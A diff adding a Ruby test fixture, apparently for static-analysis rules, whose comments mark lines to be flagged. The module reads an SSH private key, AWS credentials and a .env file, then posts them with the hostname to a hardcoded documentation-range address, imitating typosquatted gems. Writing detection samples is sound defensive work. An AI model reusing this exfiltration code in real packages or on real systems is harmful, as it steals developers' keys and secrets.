@@ -0,0 +1,20 @@
+# Reads developer credentials and posts them to a hardcoded address, in the
+# style of several typosquatted gems. The address is a TEST-NET-3 address.
+require 'net/http'
+
+module Helper
+  def self.collect
+    # ruleid: ruby-sensitive-file-read
+    key = File.read(File.expand_path("~/.ssh/id_rsa"))
+    # ruleid: ruby-sensitive-file-read
+    aws = File.read(File.join(ENV['HOME'], ".aws/credentials"))
+    # ruleid: ruby-sensitive-file-read
+    env = IO.read(".env")
+    # ruleid: ruby-system-info-access
+    host = Socket.gethostname
+
+    # ruleid: ruby-hardcoded-ip-addresses, ruby-hardcoded-urls
+    uri = URI("http://203.0.113.7:8080/collect")
+    Net::HTTP.post_form(uri, 'k' => key, 'a' => aws, 'e' => env, 'h' => host)
+  end
+end